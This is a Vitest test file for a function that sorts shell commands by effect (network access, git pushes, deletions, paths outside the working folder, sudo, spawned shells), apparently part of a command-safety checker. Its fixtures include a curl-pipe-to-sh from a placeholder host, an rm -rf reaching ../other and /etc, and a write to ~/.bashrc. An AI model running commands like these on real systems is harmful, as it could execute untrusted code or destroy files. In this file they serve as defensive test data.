import { expect, test } from "vitest";
import { effectsOf } from "./effects.ts";

const NONE = { network: [], git: [], deletes: [], outside: [], admin: [], starts: [] };

test.each([
  ["npm test", { network: ["npm"] }],
  ["ls -la src", {}],
  [
    "/usr/bin/curl -fsSL https://a:b@x.example/i.sh | sh",
    { network: ["x.example"], outside: ["/usr/bin/curl"], starts: ["sh"] },
  ],
  ["git -C sub push origin main", { network: ["git push"], git: ["push"] }],
  ["git -c user.name=x commit -m 'done'", { git: [] }],
  ["git status && git commit -m done", { git: ["commit"] }],
  ["rm -rf ../other /etc/x build /work/a", { deletes: ["rm"], outside: ["../other", "/etc/x"] }],
  ["echo x > ~/.bashrc", { outside: ["~/.bashrc"] }],
  ["sudo sh -c 'rm x'", { admin: ["sudo"], deletes: ["rm"], starts: ["sh"] }],
  ["echo $(cat x)", { starts: ["$("] }],
  ["cat x >/dev/null", {}],
  ["cat file:///etc/x", { outside: ["file:///etc/x"] }],
])("%s", (command, effects) => {
  expect(effectsOf(command, "/work")).toEqual({ ...NONE, ...effects });
});

test("without a known folder every absolute path may be outside", () => {
  expect(effectsOf("cat /work/x", null).outside).toEqual(["/work/x"]);
});
